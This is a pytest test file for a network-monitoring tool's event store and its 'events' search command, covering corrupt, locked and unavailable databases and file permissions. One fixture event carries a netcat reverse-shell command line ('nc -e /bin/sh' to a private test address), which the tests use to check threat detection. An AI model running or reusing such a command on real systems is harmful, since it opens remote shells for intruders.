"""The event store in use: the analyzer's writer surviving a corrupt file, a
locked database and a PostgreSQL server that goes away; the real
llm_analyzer.py writing it; `netsentinel events` reading it, also as a
real unprivileged user."""

from __future__ import annotations

import csv
import grp
import io
import json
import os
import sqlite3
import subprocess
import sys
import tempfile
from pathlib import Path

import pytest

from analyzer_support import analyzer_env, conn, lines, read, run_analyzer, start_analyzer, wait_for
from eventstore_support import dsn, entry, pg_server  # noqa: F401 (fixtures)
from netsentinel.eventstore import Query, open_store
from netsentinel.eventstore.rows import row_of
from netsentinel.eventstore.writer import StoreWriter
from netsentinel.testing import postgres
from netsentinel.timefmt import parse_iso


def _writer(dsn: str) -> tuple[StoreWriter, list[str]]:
    warnings: list[str] = []
    return StoreWriter(dsn, warnings.append), warnings


def test_a_corrupt_file_is_set_aside_and_a_new_store_started(tmp_path):
    path = tmp_path / "events.sqlite3"
    path.write_bytes(b"not a database, " * 512)
    w, warnings = _writer(str(path))
    w.add([row_of(entry(i)) for i in range(5)])
    w.flush(now=0)   # opening fails: set aside, and a new file at once
    (aside,) = tmp_path.glob("events.sqlite3.corrupt-*")
    assert aside.read_bytes().startswith(b"not a database")
    assert any("set aside" in m and "\n" not in m for m in warnings)
    assert open_store(str(path)).count(Query()) == 5
    assert w.status()["ok"] and w.status()["set_aside"] == [str(aside)]


def test_a_locked_database_keeps_rows_until_it_is_free(tmp_path):
    path = tmp_path / "events.sqlite3"
    w, warnings = _writer(str(path))
    w.add([row_of(entry(0))])
    w.flush(now=0)
    other = sqlite3.connect(path, isolation_level=None)
    other.execute("BEGIN EXCLUSIVE")  # another writer holding the lock past the busy timeout
    w.add([row_of(entry(i)) for i in range(1, 4)])
    w.flush(now=1)
    st = w.status()
    assert not st["ok"] and "locked" in st["error"] and st["rows_buffered"] == 3
    assert not list(tmp_path.glob("*.corrupt-*"))  # busy is not damaged
    other.execute("COMMIT")
    other.close()
    w.flush(now=1 + 6)  # the next retry
    assert w.status()["ok"] and w.status()["rows_buffered"] == 0
    assert open_store(str(path)).count(Query()) == 4
    assert any("writes again" in m for m in warnings)


def test_postgres_going_away_keeps_rows_until_it_is_back():
    why = postgres.unavailable()
    if why:  # a server of its own: it is stopped and started mid-test
        pytest.skip(why)
    with postgres.PgServer() as pg:
        w, warnings = _writer(pg.dsn)
        w.add([row_of(entry(0))])
        w.flush(now=0)
        pg.stop()
        w.add([row_of(entry(i)) for i in range(1, 6)])
        w.flush(now=1)   # the write fails
        w.flush(now=2)   # no retry yet: rows stay queued
        st = w.status()
        assert not st["ok"] and st["rows_buffered"] == 5 and "\n" not in st["error"]
        assert "postgresql://postgres@127.0.0.1" in st["error"] and "password" not in st["error"]
        pg.start()
        w.flush(now=1 + 6)
        assert w.status()["ok"] and w.status()["rows_written"] == 6
        w.close()
        db = open_store(pg.dsn)
        assert db.count(Query()) == 6
        db.close()


EVENTS = [conn(i, daddr=f"10.222.0.{i % 4 + 5}") for i in range(30)] + [
    conn(40, comm="nc", exe="/usr/bin/nc", cmdline="nc -e /bin/sh 10.222.0.9 4444",
         daddr="10.222.0.9", dport=4444, uid=0)]


def _status(records: Path) -> dict:
    return json.loads((records / "analyzer_status.json").read_text())


def test_the_analyzer_stores_every_verdict_at_the_events_time(tmp_path):
    r = run_analyzer(tmp_path, ["--backend", "rules"], lines(EVENTS + ["{broken"]))
    assert r.returncode == 0, r.stderr
    db = open_store(str(tmp_path / "records" / "events.sqlite3"), readonly=True)
    assert db.count(Query(kind="connection")) == 31
    nc = db.search(Query(process="nc", kind="connection"))[0]
    assert nc["time"] == EVENTS[-1]["ts"] and nc["level"] == "HIGH" and nc["uid"] == 0
    assert db.count(Query(kind="threat", dst="10.222.0.9")) == 1
    assert db.count(Query(since=parse_iso(EVENTS[0]["ts"]), until=parse_iso(EVENTS[10]["ts"]))) == 10
    st = _status(tmp_path / "records")["event_store"]
    assert st["ok"] and st["rows_written"] == 32 and st["dsn"].startswith("sqlite:")
    # The store holds the history: no JSON-lines copy of it by default...
    assert not (tmp_path / "records" / "analyzed_events.jsonl").exists()
    # ...the same records, as the analyzer made them, from the store.
    out = _ctl(tmp_path / "records", "--kind", "connection", "--format", "jsonl", "--oldest-first")
    assert out.returncode == 0, out.stderr
    recs = [json.loads(ln)["record"] for ln in out.stdout.splitlines()]
    assert len(recs) == 31 and recs[0]["event"]["ts"] == EVENTS[0]["ts"] and "verdict_source" in recs[0]


def test_without_a_store_the_history_is_kept_in_json_lines(tmp_path):
    r = run_analyzer(tmp_path, ["--backend", "rules", "--no-store"], lines(EVENTS))
    assert r.returncode == 0, r.stderr
    history = (tmp_path / "records" / "analyzed_events.jsonl").read_text().splitlines()
    assert len(history) == 31 and not (tmp_path / "records" / "events.sqlite3").exists()
    r = run_analyzer(tmp_path, ["--backend", "rules", "--no-store", "--no-history"], lines(EVENTS),
                     records=tmp_path / "quiet")
    assert r.returncode == 0, r.stderr
    assert not (tmp_path / "quiet" / "analyzed_events.jsonl").exists()


def test_a_corrupt_store_never_stops_the_analyzer(tmp_path):
    records = tmp_path / "records"
    records.mkdir()
    (records / "events.sqlite3").write_text("garbage")
    r = run_analyzer(tmp_path, ["--backend", "rules"], lines(EVENTS))
    assert r.returncode == 0, r.stderr
    assert "set aside as events.sqlite3.corrupt-" in r.stderr
    assert [t["target"] for t in json.loads((records / "pending_threats.json").read_text())] \
        == ["10.222.0.9"]
    assert open_store(str(records / "events.sqlite3")).count(Query(kind="connection")) == 31
    assert _status(records)["event_store"]["set_aside"]


def test_a_persons_decision_is_stored_once_while_the_analyzer_runs(tmp_path):
    """`netsentinel threats reject` (root, by hand) while the analyzer runs:
    one decision row at the decision's time, naming who and the note; a
    restarted analyzer does not record it again."""
    records = tmp_path / "records"
    proc = start_analyzer(tmp_path, ["--backend", "rules"])
    try:
        proc.stdin.write(lines(EVENTS))
        proc.stdin.flush()
        tid = wait_for(lambda: json.loads((records / "pending_threats.json").read_text())[0]["id"])
        r = subprocess.run([sys.executable, "-m", "netsentinel", "--records", str(records), "threats",
                            "reject", tid, "--note", "lab host"], capture_output=True, text=True,
                           timeout=60)
        assert r.returncode == 0, r.stderr
        # The store's file is made by its writer process, with its first rows.
        db = wait_for(lambda: (records / "events.sqlite3").exists()
                      and open_store(str(records / "events.sqlite3"), readonly=True), timeout=20)
        wait_for(lambda: db.count(Query(kind="decision")) == 1 or None, timeout=20)
    finally:
        proc.stdin.close()
        proc.wait(timeout=60)
    (row,) = db.search(Query(kind="decision"))
    decided = json.loads((records / "pending_threats.json").read_text())[0]
    assert row["ref"] == tid and row["category"].startswith("rejected")
    assert row["ts"] == parse_iso(decided["decided_at"]) and "lab host" in row["reason"]
    assert row["daddr"] == "10.222.0.9"
    r = run_analyzer(tmp_path, ["--backend", "rules"], lines(EVENTS[:3]))  # a restart
    assert r.returncode == 0, r.stderr
    assert db.count(Query(kind="decision")) == 1
    db.close()


def test_the_analyzer_writes_postgres_through_store_dsn(tmp_path, pg_server):
    dsn = pg_server.create_db("analyzer")
    r = run_analyzer(tmp_path, ["--backend", "rules", "--store-dsn", dsn], lines(EVENTS))
    assert r.returncode == 0, r.stderr
    assert not (tmp_path / "records" / "events.sqlite3").exists()
    db = open_store(dsn, readonly=True)
    assert db.count(Query(kind="connection")) == 31
    assert db.search(Query(port=4444, kind="connection"))[0]["time"] == EVENTS[-1]["ts"]
    db.close()


def _ctl(records: Path, *args, user: str | None = None, env: dict | None = None):
    cmd = [sys.executable, "-m", "netsentinel", "--records", str(records), "events", *args]
    if user:
        cmd = ["runuser", "-u", user, "--", "env", f"PYTHONPATH={os.environ.get('PYTHONPATH', '')}",
               *cmd]
    return subprocess.run(cmd, capture_output=True, text=True, timeout=60,
                          env={**os.environ, **(env or {})})


@pytest.fixture(scope="module")
def stored(tmp_path_factory) -> Path:
    tmp = tmp_path_factory.mktemp("stored")
    r = run_analyzer(tmp, ["--backend", "rules"], lines(EVENTS))
    assert r.returncode == 0, r.stderr
    return tmp / "records"


def test_events_search_in_every_format(stored):
    table = _ctl(stored, "--level", "HIGH+", "--kind", "connection")
    assert table.returncode == 0, table.stderr
    assert "nc" in table.stdout and "10.222.0.9:4444" in table.stdout and "curl" not in table.stdout
    assert "1 events, page 1 of 1" in table.stderr
    js = json.loads(_ctl(stored, "--process", "curl", "--limit", "7", "--page", "2",
                         "--format", "json").stdout)
    assert js["total"] == 30 and len(js["events"]) == 7 and js["page"] == 2
    assert js["events"][0]["record"]["event"]["comm"] == "curl"
    jl = _ctl(stored, "--dst", "10.222.0.5", "--format", "jsonl").stdout.splitlines()
    assert len(jl) == 8 and all(json.loads(x)["daddr"] == "10.222.0.5" for x in jl)
    rows = list(csv.DictReader(io.StringIO(_ctl(stored, "--text", "/BIN/SH", "--format", "csv").stdout)))
    assert {r["kind"] for r in rows} == {"connection", "threat"} and rows[0]["dport"] == "4444"
    window = _ctl(stored, "--from", EVENTS[5]["ts"], "--to", EVENTS[8]["ts"], "--format", "jsonl")
    assert [json.loads(x)["time"] for x in window.stdout.splitlines()] == [e["ts"] for e in EVENTS[7:4:-1]]
    assert _ctl(stored, "--since", "1h").stdout.strip() == "no events match"  # events of 2026-11-21


def test_investigate_one_executable(stored):
    r = _ctl(stored, "--exe", "/usr/bin/nc", "--investigate")
    assert r.returncode == 0, r.stderr
    head = r.stdout.splitlines()
    assert head[0].startswith("2 events from") and "kinds: connection (1), threat (1)" in r.stdout
    assert "destinations: 10.222.0.9 (2)" in r.stdout
    js = json.loads(_ctl(stored, "--exe", "/usr/bin/nc", "--investigate", "--format", "json").stdout)
    assert js["summary"]["rows"] == 2 and js["summary"]["first"] == EVENTS[-1]["ts"]


@pytest.mark.parametrize("args, code, words", [
    (["--level", "SEVERE"], 2, "unknown level"),
    (["--since", "1h", "--from", "2026-12-01T00:00"], 2, "not both"),
    (["--from", "tuesday"], 2, "invalid time"),
    (["--investigate"], 2, "needs what to follow"),
    (["--port", "70000"], 2, "invalid port"),
])
def test_events_usage_errors_are_one_line(stored, args, code, words):
    r = _ctl(stored, *args)
    assert r.returncode == code and words in r.stderr and len(r.stderr.strip().splitlines()) == 1


def test_no_store_yet_is_one_line(tmp_path):
    r = _ctl(tmp_path / "records")
    assert r.returncode == 1 and "no event store at" in r.stderr
    assert len(r.stderr.strip().splitlines()) == 1


def test_events_reads_postgres(pg_server, tmp_path):
    dsn = pg_server.create_db("ctl")
    db = open_store(dsn)
    db.add_rows([row_of(entry(i, dport=22 if i % 2 else 443)) for i in range(10)])
    db.close()
    r = _ctl(tmp_path / "records", "--port", "22", "--format", "jsonl", env={"NETSENTINEL_STORE_DSN": dsn})
    assert r.returncode == 0, r.stderr
    assert len(r.stdout.splitlines()) == 5


@pytest.mark.skipif(os.geteuid() != 0, reason="needs root to run as another user")
def test_only_root_and_the_dashboard_user_read_the_history(tmp_path):
    # The store names processes, users and peers: 0640, root:netsentinel (the
    # dashboard service's user). A traversable records dir, so the file's
    # mode and group alone decide.
    if subprocess.run(["id", "netsentinel"], capture_output=True).returncode != 0:
        subprocess.run(["useradd", "--system", "--user-group", "--no-create-home", "--home-dir",
                        "/nonexistent", "--shell", "/usr/sbin/nologin", "netsentinel"], check=True)
    records = Path(tempfile.mkdtemp(prefix="ns-store-"))
    try:
        os.chmod(records, 0o755)
        r = run_analyzer(tmp_path, ["--backend", "rules"], lines(EVENTS), records=records,
                         env=analyzer_env(tmp_path))
        assert r.returncode == 0, r.stderr
        st = (records / "events.sqlite3").stat()
        assert st.st_mode & 0o777 == 0o640 and st.st_gid == grp.getgrnam("netsentinel").gr_gid
        mine = _ctl(records, "--format", "jsonl")
        assert mine.returncode == 0 and len(mine.stdout.splitlines()) == 32
        theirs = _ctl(records, user="nobody")
        assert theirs.returncode == 1 and "Permission denied" in theirs.stderr
        assert len(theirs.stderr.strip().splitlines()) == 1 and not theirs.stdout
        # The dashboard's user reads it, with the analyzer gone (no -wal, a
        # directory it cannot write: opened immutable) ...
        dash = _ctl(records, "--format", "jsonl", user="netsentinel")
        assert dash.returncode == 0 and len(dash.stdout.splitlines()) == 32, dash.stderr
        # ... and while the writer has it open (WAL and -shm present).
        writer = open_store(str(records / "events.sqlite3"))
        writer.add_rows([row_of(entry(99))])
        assert Path(f"{records}/events.sqlite3-wal").exists()
        dash = _ctl(records, "--format", "jsonl", user="netsentinel")
        assert dash.returncode == 0 and len(dash.stdout.splitlines()) == 33, dash.stderr
        writer.close()
    finally:
        subprocess.run(["rm", "-rf", str(records)], check=True)


def test_a_row_the_engine_refuses_is_dropped_alone(dsn):
    # Past row_of's checks nothing should be refused; if something is, it
    # must not fail its whole batch on every retry and block the store.
    w, warnings = _writer(dsn)
    good = [row_of(entry(i)) for i in range(4)]
    bad = list(good[0])
    bad[9] = object()  # pid: no engine can store this
    w.add(good[:2] + [tuple(bad)] + good[2:])
    w.flush(now=0)
    st = w.status()
    assert st["ok"] and st["rows_written"] == 4 and st["rows_dropped"] == 1 and st["rows_buffered"] == 0
    assert any("refused a row" in m and "\n" not in m for m in warnings)
    w.close()
    db = open_store(dsn)
    assert db.count(Query()) == 4
    db.close()


def test_a_locked_store_delays_neither_threats_nor_status(tmp_path):
    # Another writer holds SQLite's lock: the analyzer's store thread waits
    # and retries; pending threats and the status heartbeat go on meanwhile.
    records = tmp_path / "records"
    open_store(str(records / "events.sqlite3")).close()
    holder = sqlite3.connect(records / "events.sqlite3", isolation_level=None)
    holder.execute("BEGIN EXCLUSIVE")
    proc = start_analyzer(tmp_path, ["--backend", "rules", "--status-interval", "0.2"])
    try:
        proc.stdin.write(lines(EVENTS))
        proc.stdin.flush()
        wait_for(lambda: [t["target"] for t in read(records, "pending_threats.json")] == ["10.222.0.9"],
                 what="the threat, with the store locked")
        st = wait_for(lambda: (s := read(records, "analyzer_status.json")["event_store"])["error"] and s,
                      what="the locked store in the status")
        assert "locked" in st["error"] and st["rows_written"] == 0 and st["rows_buffered"] > 0
        assert read(records, "analyzer_status.json")["events_total"] == 31
        holder.execute("COMMIT")
        wait_for(lambda: read(records, "analyzer_status.json")["event_store"]["rows_written"] == 32,
                 timeout=30, what="the rows once the lock is gone")
    finally:
        holder.close()
        proc.stdin.close()
        assert proc.wait(timeout=60) == 0, proc.stderr.read()
    assert "writes again" in proc.stderr.read()
